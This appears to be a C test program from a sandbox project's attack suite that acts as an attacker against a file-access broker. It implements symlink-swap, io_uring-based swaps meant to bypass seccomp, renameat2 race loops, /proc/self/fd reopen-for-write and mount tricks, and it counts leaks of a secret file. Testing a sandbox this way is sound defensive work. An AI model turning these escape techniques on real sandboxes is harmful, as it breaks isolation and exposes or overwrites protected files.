/*
 * broker_swap: an attacker inside a sandbox with a broker. It swaps a
 * declared file, or a directory on the way to it, for a symlink, and then
 * asks the broker to open the declared path. Every operation prints one line
 * "OP PATH: OK" or "OP PATH: ENAME", and reads print "data PATH: TEXT".
 *
 *   swap PATH TARGET           rename PATH to PATH.orig, symlink PATH -> TARGET
 *   uring-swap PATH TARGET     the same through io_uring, which seccomp (and
 *                              so the broker) does not see
 *   create PATH TEXT           open(O_CREAT|O_WRONLY|O_TRUNC) and write TEXT
 *   read PATH                  open(O_RDONLY) and print the first line
 *   write PATH TEXT            open(O_WRONLY|O_TRUNC) and write TEXT
 *   flags PATH                 open(O_RDONLY), print "nonblock=0" or "=1"
 *   reopen PATH                open(PATH, O_RDONLY) as fd N, then open
 *                              /proc/self/fd/N for writing ("reopen-rw")
 *   read-in-root PATH          openat2(AT_FDCWD, PATH, RESOLVE_IN_ROOT)
 *   mkfifo PATH                replace PATH by a FIFO (rename away, mknod)
 *   bind-mount SOURCE TARGET   mount(SOURCE, TARGET, MS_BIND)
 *   tmpfs TARGET               mount("tmpfs", TARGET, "tmpfs", 0)
 *   rename PATH NEW            rename(2)
 *   symlink TARGET PATH        symlink(2)
 *   race-read PATH ALT N       a thread exchanges PATH and ALT without pause
 *                              while N opens of PATH are read: prints
 *                              "ok=A refused=B leaked=C other=D"
 *   race-write PATH ALT N      the same with N writes of "W\n" (O_APPEND)
 *
 * Built by tests/attacks/broker_attack.ts with `cc -static -pthread`.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *ename(int e)
{
	switch (e) {
	case 0: return "OK";
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case ELOOP: return "ELOOP";
	case EXDEV: return "EXDEV";
	case EINVAL: return "EINVAL";
	case ENXIO: return "ENXIO";
	case EEXIST: return "EEXIST";
	case ENOTDIR: return "ENOTDIR";
	case EISDIR: return "EISDIR";
	case ENOSYS: return "ENOSYS";
	case EAGAIN: return "EAGAIN";
	default: {
		static char buf[32];
		snprintf(buf, sizeof(buf), "E%d", e);
		return buf;
	}
	}
}

static void report(const char *op, const char *path, int err)
{
	printf("%s %s: %s\n", op, path, ename(err));
	fflush(stdout);
}

/* Reads the first line of fd into buf; returns 0 or an errno. */
static int first_line(int fd, char *buf, size_t size)
{
	ssize_t n = read(fd, buf, size - 1);
	if (n < 0)
		return errno;
	buf[n] = 0;
	char *nl = strchr(buf, '\n');
	if (nl)
		*nl = 0;
	return 0;
}

static void do_read(const char *op, const char *path, int fd)
{
	if (fd < 0)
		return report(op, path, errno);
	char buf[256];
	int err = first_line(fd, buf, sizeof(buf));
	close(fd);
	report(op, path, err);
	if (!err)
		printf("data %s: %s\n", path, buf);
}

static int swap(const char *path, const char *target)
{
	char orig[4096];
	snprintf(orig, sizeof(orig), "%s.orig", path);
	if (rename(path, orig) < 0 || symlink(target, path) < 0)
		return errno;
	return 0;
}

/* One io_uring operation (renameat or symlinkat); returns 0 or an errno. */
static int uring(int op, const char *a, const char *b)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof(p));
	int fd = (int)syscall(SYS_io_uring_setup, 1, &p);
	if (fd < 0)
		return errno;
	size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (cq_size > sq_size)
		sq_size = cq_size; /* IORING_FEAT_SINGLE_MMAP: one mapping */
	char *ring = mmap(NULL, sq_size, PROT_READ | PROT_WRITE,
			  MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
	struct io_uring_sqe *sqes =
		mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE,
		     MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
	if (ring == MAP_FAILED || sqes == MAP_FAILED ||
	    !(p.features & IORING_FEAT_SINGLE_MMAP)) {
		close(fd);
		return ENOSYS;
	}
	struct io_uring_sqe *e = &sqes[0];
	memset(e, 0, sizeof(*e));
	e->opcode = (unsigned char)op;
	e->fd = AT_FDCWD;
	e->addr = (unsigned long)a;
	e->addr2 = (unsigned long)b;
	if (op == IORING_OP_RENAMEAT)
		e->len = (unsigned)AT_FDCWD; /* newdirfd */
	unsigned *tail = (unsigned *)(ring + p.sq_off.tail);
	unsigned mask = *(unsigned *)(ring + p.sq_off.ring_mask);
	((unsigned *)(ring + p.sq_off.array))[*tail & mask] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	int err = 0;
	if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL,
		    0) < 0) {
		err = errno;
	} else {
		unsigned head = *(unsigned *)(ring + p.cq_off.head);
		unsigned cmask = *(unsigned *)(ring + p.cq_off.ring_mask);
		struct io_uring_cqe *cqes =
			(struct io_uring_cqe *)(ring + p.cq_off.cqes);
		int res = cqes[head & cmask].res;
		err = res < 0 ? -res : 0;
	}
	close(fd);
	return err;
}

static int uring_swap(const char *path, const char *target)
{
	char orig[4096];
	snprintf(orig, sizeof(orig), "%s.orig", path);
	int err = uring(IORING_OP_RENAMEAT, path, orig);
	return err ? err : uring(IORING_OP_SYMLINKAT, target, path);
}

struct race {
	const char *path, *alt;
	atomic_int stop;
	long swaps;
	int err; /* the last exchange's errno */
};

static void *swapper(void *arg)
{
	struct race *r = arg;
	while (!atomic_load(&r->stop)) {
		if (syscall(SYS_renameat2, AT_FDCWD, r->path, AT_FDCWD, r->alt,
			    RENAME_EXCHANGE) == 0)
			r->swaps++;
		else
			r->err = errno;
	}
	return NULL;
}

/*
 * ok: the declared file itself; refused: ELOOP or ENOENT; leaked: the
 * secret's content (any line starting with "SECRET"); other: anything else.
 */
static int race(const char *path, const char *alt, int n, int writing)
{
	struct race r = { .path = path, .alt = alt };
	pthread_t t;
	if (pthread_create(&t, NULL, swapper, &r))
		return EAGAIN;
	long ok = 0, refused = 0, leaked = 0, other = 0;
	for (int i = 0; i < n; i++) {
		int fd = open(path, writing ? O_WRONLY | O_APPEND : O_RDONLY);
		if (fd < 0) {
			if (errno == ELOOP || errno == ENOENT)
				refused++;
			else
				other++;
			continue;
		}
		if (writing) {
			if (write(fd, "W\n", 2) == 2)
				ok++;
			else
				other++;
		} else {
			char buf[256];
			if (first_line(fd, buf, sizeof(buf)))
				other++;
			else if (!strncmp(buf, "SECRET", 6))
				leaked++;
			else
				ok++;
		}
		close(fd);
	}
	atomic_store(&r.stop, 1);
	pthread_join(t, NULL);
	/* Leave the tree as it was: an even number of exchanges. */
	if (r.swaps % 2 &&
	    syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, alt,
		    RENAME_EXCHANGE) == 0)
		r.swaps++;
	printf("ok=%ld refused=%ld leaked=%ld other=%ld swaps=%ld swap-error=%s\n",
	       ok, refused, leaked, other, r.swaps, ename(r.err));
	return 0;
}

int main(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		const char *op = argv[i];
		const char *a = i + 1 < argc ? argv[i + 1] : "";
		const char *b = i + 2 < argc ? argv[i + 2] : "";
		if (!strcmp(op, "swap")) {
			report(op, a, swap(a, b)), i += 2;
		} else if (!strcmp(op, "uring-swap")) {
			report(op, a, uring_swap(a, b)), i += 2;
		} else if (!strcmp(op, "create")) {
			int fd = open(a, O_CREAT | O_WRONLY | O_TRUNC, 0644);
			int err = fd < 0 ? errno : 0;
			if (!err && write(fd, b, strlen(b)) != (ssize_t)strlen(b))
				err = errno;
			if (fd >= 0)
				close(fd);
			report(op, a, err), i += 2;
		} else if (!strcmp(op, "read")) {
			do_read(op, a, open(a, O_RDONLY)), i += 1;
		} else if (!strcmp(op, "flags")) {
			int fd = open(a, O_RDONLY);
			report(op, a, fd < 0 ? errno : 0);
			if (fd >= 0) {
				printf("data %s: nonblock=%d\n", a,
				       !!(fcntl(fd, F_GETFL) & O_NONBLOCK));
				close(fd);
			}
			i += 1;
		} else if (!strcmp(op, "reopen")) {
			int fd = open(a, O_RDONLY);
			report(op, a, fd < 0 ? errno : 0);
			if (fd >= 0) {
				char magic[64];
				snprintf(magic, sizeof(magic), "/proc/self/fd/%d", fd);
				int rw = open(magic, O_RDWR);
				report("reopen-rw", a, rw < 0 ? errno : 0);
				if (rw >= 0) {
					if (write(rw, "PWNED\n", 6) < 0)
						perror("write");
					close(rw);
				}
				close(fd);
			}
			i += 1;
		} else if (!strcmp(op, "read-in-root")) {
			struct open_how how = { .flags = O_RDONLY,
						.resolve = RESOLVE_IN_ROOT };
			do_read(op, a, (int)syscall(SYS_openat2, AT_FDCWD, a, &how,
						    sizeof(how))),
				i += 1;
		} else if (!strcmp(op, "write")) {
			int fd = open(a, O_WRONLY | O_TRUNC);
			int err = fd < 0 ? errno : 0;
			if (!err && write(fd, b, strlen(b)) != (ssize_t)strlen(b))
				err = errno;
			if (fd >= 0)
				close(fd);
			report(op, a, err), i += 2;
		} else if (!strcmp(op, "mkfifo")) {
			char orig[4096];
			snprintf(orig, sizeof(orig), "%s.orig", a);
			int err = rename(a, orig) < 0 || mkfifo(a, 0666) < 0 ? errno : 0;
			report(op, a, err), i += 1;
		} else if (!strcmp(op, "bind-mount")) {
			report(op, a, mount(a, b, NULL, MS_BIND, NULL) < 0 ? errno : 0),
				i += 2;
		} else if (!strcmp(op, "tmpfs")) {
			report(op, a, mount("tmpfs", a, "tmpfs", 0, NULL) < 0 ? errno : 0),
				i += 1;
		} else if (!strcmp(op, "rename")) {
			report(op, a, rename(a, b) < 0 ? errno : 0), i += 2;
		} else if (!strcmp(op, "symlink")) {
			report(op, b, symlink(a, b) < 0 ? errno : 0), i += 2;
		} else if (!strcmp(op, "race-read") || !strcmp(op, "race-write")) {
			report(op, a, race(a, b, atoi(argv[i + 3]),
					   op[5] == 'w')),
				i += 3;
		} else {
			fprintf(stderr, "broker_swap: unknown operation %s\n", op);
			return 2;
		}
	}
	return 0;
}
